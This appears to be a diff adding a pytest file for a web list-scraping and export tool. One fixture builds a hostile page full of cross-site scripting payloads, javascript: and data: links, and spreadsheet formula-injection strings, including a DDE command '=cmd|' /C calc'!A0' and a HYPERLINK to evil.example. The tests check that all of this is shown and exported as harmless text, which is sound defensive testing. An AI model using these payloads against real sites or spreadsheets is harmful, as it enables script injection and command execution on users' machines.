@@ -1,0 +1,259 @@
+"""Lists of pages as grids: looked at, saved and watched, whatever stands in them."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pyarrow.parquet
+import pytest
+from tests.web.asking import ask, bearer
+from tests.web.conftest import NARROW, WIDE, Look, demo_pages, make_room
+
+from scythe.archive.open import open_archive
+from scythe.archive.stored import Wanted
+from scythe.demo.replay import ListPage, Pace, Replay, Shelf
+from scythe.demo.replay_serve import InThread, serve_replay
+from scythe.errors import BadInput
+from scythe.sources import Loaded
+from scythe.watching.options import ListOptions, WatchOptions
+from scythe.watching.run import Watch
+from scythe.web.operation import Nothing, NotThere
+from scythe.web.records import (
+    ExportWanted,
+    PageRecordsWanted,
+    RecordsWanted,
+    export_list,
+    list_records,
+    show_records,
+)
+from scythe.web.records_watch import EndWanted, WatchWanted, end_watch, list_watches, watch_page
+from scythe.web.room import Room
+from scythe.web.serve import Serving
+
+START = 1_660_000_000.0
+HOSTILE_URL = "https://shop.example/list?q=%22%3E%3Cscript%3E"
+
+
+def hostile_page() -> Loaded:
+    """A list whose cells would like to be formulas, scripts and links that act."""
+    rows = "".join(
+        f"""<li class="item"><a href="{link}"><img src="/i/{n}.png" alt=""></a>
+        <h3><a href="{link}">{title} {n}</a></h3><span class="price">${n}.50</span>
+        <p>=HYPERLINK("https://evil.example/?x={n}","{"click here and wait " * 14}")</p></li>"""
+        for n, (link, title) in enumerate(
+            [
+                ("javascript:document.title='gone'", "=cmd|' /C calc'!A0"),
+                ("data:text/html,<script>alert(1)</script>", "&lt;script&gt;document.title='gone'&lt;/script&gt;"),
+                ("/thing/3", "+1+1 of a plain thing with a name"),
+                ("https://other.example/thing/4", "&lt;img src=x onerror=alert(1)&gt; thing"),
+                ("//third.example/5", "@SUM(1) of something"),
+            ],
+            1,
+        )
+    )
+    html = f"<title>&lt;b&gt;Things</title><main><h1>Things</h1><ul>{rows}</ul></main>"
+    return Loaded("hostile", html.encode(), HOSTILE_URL, "text/html; charset=utf-8")
+
+
+@pytest.fixture(scope="module")
+def site() -> Iterator[InThread]:
+    """A news site that shows two lists on one page, at a moment that does not pass."""
+    shelves = (
+        Shelf("news", "News", tuple(START + 1_800.0 * n for n in range(-400, 800)), 24),
+        Shelf("wire", "From the wire", tuple(START + 60 + 900.0 * n for n in range(-800, 1_600)), 16),
+    )
+    replay = Replay(Pace(START, speed=0.0), shelves, (ListPage("/news/", ("news", "wire")),))
+    with serve_replay(replay) as served:
+        yield served
+
+
+@pytest.fixture
+def room(tmp_path: Path) -> Room:
+    """A room with a hostile page, some honest ones and an empty archive."""
+    return make_room(tmp_path, [hostile_page(), *demo_pages(6)], archive=str(tmp_path / "archive.db"))
+
+
+def run_once(archive: str) -> None:
+    """Make the visits that are due, as `scythe watch --once` does."""
+
+    async def visit() -> None:
+        with open_archive(archive) as opened:
+            await Watch(opened, WatchOptions(delay=0.0, allow_private=True, once=True)).run()
+
+    thread = threading.Thread(target=lambda: asyncio.run(visit()))
+    thread.start()
+    thread.join()
+
+
+def archived_links(archive: str) -> set[str]:
+    with open_archive(archive, create=False) as opened:
+        return {str(record.links[0]) for record in opened.read_records(Wanted())}
+
+
+def stories_of(site: InThread, shelf: str) -> set[str]:
+    """Return the addresses of all that a list of the site ever showed."""
+    one = site.replay.shelf(shelf)
+    places = range(site.replay.count(one, START + 1.0))
+    return {site.bases[0] + site.replay.story(one, place).plan.path for place in places}
+
+
+# -- in a browser ------------------------------------------------------------------------------------------------------
+
+
+def test_a_list_is_read_chosen_watched_and_saved(look: Look, room: Room, site: InThread) -> None:
+    eyes = look("/records")
+    tab = eyes.tab
+    tab.fill("#take-url", site.url("/news/"))
+    tab.click("text=Look at it")
+    tab.wait_for_url("**/records?page=*")
+    listing = list_records(room, PageRecordsWanted(page=int(tab.url.rpartition("=")[2])))
+    news, wire = listing.lists
+    tab.click(f'nav.lists a[href*="list={wire.number}"]')
+    tab.wait_for_selector(f"tbody tr >> nth={len(wire.records) - 1}")
+    assert tab.locator("tbody tr td:nth-child(2)").all_inner_texts() == [one.fields[0] for one in wire.records]
+    tab.wait_for_selector(f".outline >> nth={len(wire.records) - 1}")
+    tab.click('button[aria-label="Show record 5 on the page"]')
+    assert tab.inner_text(".outline.lit") == "5"
+    with tab.expect_download() as saving:
+        tab.click("text=CSV")
+    saved = list(csv.reader(Path(saving.value.path()).read_text(encoding="utf-8").splitlines()))
+    assert saving.value.suggested_filename.startswith("records-")
+    assert [row[0] for row in saved[1:]] == [one.fields[0] for one in wire.records]
+    tab.select_option("#delay", label="within 6 hours")
+    tab.click("form#watch button[type=submit]")
+    tab.wait_for_selector("text=The first visit is due.")
+    assert "scythe watch --archive" in tab.inner_text("#state")
+    tab.evaluate("scrollTo(0, 0)")
+    eyes.shoot("records-watched")
+    assert room.options.archive is not None
+    run_once(room.options.archive)
+    links = archived_links(room.options.archive)
+    assert {one.link for one in wire.records} <= links <= stories_of(site, "wire")  # a first visit turns one page
+    assert not links & {one.link for one in news.records}
+    tab.reload()
+    assert tab.inner_text("#state dd") == str(len(links))
+    tab.click("text=Watch no longer")
+    tab.wait_for_selector("form#watch >> text=Watch")
+    assert list_watches(room, Nothing()) == []
+
+
+@pytest.mark.parametrize(("size", "dark"), [(WIDE, False), (NARROW, True)])
+def test_hostile_cells_are_shown_as_text(look: Look, size: tuple[int, int], dark: bool) -> None:
+    eyes = look("/records?page=1", size=size, dark=dark)
+    tab = eyes.tab
+    tab.wait_for_selector(".outline >> nth=4")
+    words = tab.inner_text("tbody")
+    assert "<script>document.title='gone'</script>" in words
+    assert "=cmd|' /C calc'!A0" in words
+    addresses = tab.eval_on_selector_all("tbody a", "links => links.map((link) => link.getAttribute('href'))")
+    assert addresses == ["https://shop.example/thing/3", "https://other.example/thing/4", "https://third.example/5"]
+    assert tab.eval_on_selector_all("tbody a", "links => links.every((one) => one.rel.includes('noopener'))")
+    assert tab.title() == "Records · scythe"
+    assert eyes.overflow() <= 0
+    eyes.shoot("records-hostile")
+
+
+# -- without one -------------------------------------------------------------------------------------------------------
+
+
+def page_of(room: Room, path: str) -> int:
+    return next(page.number for page in room.pages() if page.url is not None and page.url.endswith(path))
+
+
+def test_a_saved_list_is_what_the_page_shows_in_every_format(room: Room) -> None:
+    number = page_of(room, "/index.html")
+    (one,) = list_records(room, PageRecordsWanted(page=number)).lists
+    titles = [record.fields[0] for record in one.records]
+    sent = {
+        kind: export_list(room, ExportWanted(page=number, format=kind)) for kind in ("csv", "jsonl", "json", "parquet")
+    }
+    assert [row[0] for row in csv.reader(io.StringIO(sent["csv"].body.decode()))][1:] == titles
+    assert [json.loads(line)["title"] for line in sent["jsonl"].body.decode().splitlines()] == titles
+    assert [row["title"] for row in json.loads(sent["json"].body)] == titles
+    assert pyarrow.parquet.read_table(io.BytesIO(sent["parquet"].body))["title"].to_pylist() == titles
+    assert {each.file_name for each in sent.values()} == {f"records-{number}-1.{kind}" for kind in sent}
+
+
+def test_no_cell_of_a_saved_list_is_a_formula(room: Room) -> None:
+    body = export_list(room, ExportWanted(page=1)).body.decode()
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row if cell]
+    assert "'=cmd|' /C calc'!A0 1" in cells
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+
+
+def test_a_saved_list_is_an_attachment_with_a_name_of_ours(serving: Serving) -> None:
+    answer = ask(serving, "/records/export?page=1&format=csv", headers=bearer(serving.gate))
+    assert answer.status == 200
+    assert answer.headers["content-disposition"].startswith('attachment; filename="records-1-1.csv"')
+    assert "sandbox" in answer.headers["content-security-policy"]
+    wrong = ask(serving, "/records/export?page=1&format=exe", headers=bearer(serving.gate))
+    assert wrong.status == 422
+
+
+def test_menus_are_shown_only_on_request(room: Room) -> None:
+    number = page_of(room, "/index.html")
+    few = list_records(room, PageRecordsWanted(page=number)).lists
+    all_of_them = list_records(room, PageRecordsWanted(page=number, everything=True)).lists
+    assert all(one.is_listed for one in few)
+    assert all_of_them[: len(few)] == few
+    assert not any(one.is_listed for one in all_of_them[len(few) :])
+    shown = show_records(room, RecordsWanted(page=number))
+    assert shown["hidden"] == len(all_of_them) - len(few)
+
+
+def test_every_record_has_its_place_on_the_page(room: Room) -> None:
+    (one,) = list_records(room, PageRecordsWanted(page=page_of(room, "/index.html"))).lists
+    places = [record.elements for record in one.records]
+    assert all(places)
+    assert sorted(number for each in places for number in each) == [number for each in places for number in each]
+
+
+def test_a_feed_is_a_list_too(tmp_path: Path) -> None:
+    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>
+    <item><title>First</title><link>https://example.org/1</link></item>
+    <item><title>Second</title><link>https://example.org/2</link></item></channel></rss>"""
+    room = make_room(tmp_path, [Loaded("feed", feed, "https://example.org/feed.xml", "application/rss+xml")])
+    (one,) = list_records(room, PageRecordsWanted(page=1)).lists
+    assert [record.link for record in one.records] == ["https://example.org/1", "https://example.org/2"]
+    assert one.kind == "feed"
+
+
+def test_a_page_without_lists_and_a_room_without_pages_say_so(tmp_path: Path) -> None:
+    bare = make_room(tmp_path, [Loaded("bare", b"<p>Nothing to see here.</p>", "https://example.org/bare")])
+    assert show_records(bare, RecordsWanted())["lists"] == []
+    assert show_records(make_room(tmp_path, []), RecordsWanted())["page"] is None
+    with pytest.raises(NotThere):
+        list_records(bare, PageRecordsWanted(page=7))
+
+
+def test_what_is_chosen_is_kept_with_the_watch(room: Room) -> None:
+    number = page_of(room, "/index.html")
+    seen = watch_page(room, WatchWanted(page=number, lists=(1,), miss=0.05, max_delay_s=300.0, follow=True))
+    with room.archive() as archive:
+        (row,) = archive.watches()
+    options = ListOptions.from_json(row.options)
+    assert (seen.places, seen.is_due, seen.follow, seen.miss) == ((1,), True, True, 0.05)
+    assert options.regions[0].is_described
+    assert options.goals.floor_s == 300.0
+    assert [one.url for one in list_watches(room, Nothing())] == [seen.url]
+    assert end_watch(room, EndWanted(url=seen.url)) == []
+    with pytest.raises(NotThere):
+        end_watch(room, EndWanted(url=seen.url))
+
+
+def test_what_cannot_be_watched_is_refused(room: Room, tmp_path: Path) -> None:
+    with pytest.raises(BadInput, match="no list 9"):
+        watch_page(room, WatchWanted(page=page_of(room, "/index.html"), lists=(9,)))
+    with pytest.raises(BadInput, match="without an address"):
+        watch_page(room, WatchWanted())
+    with pytest.raises(BadInput, match="policy"):
+        watch_page(room, WatchWanted(url="https://example.org/", policy="astrology"))
+    with pytest.raises(BadInput, match="no archive"):
+        watch_page(make_room(tmp_path, []), WatchWanted(url="https://example.org/"))
+    assert list_watches(room, Nothing()) == []
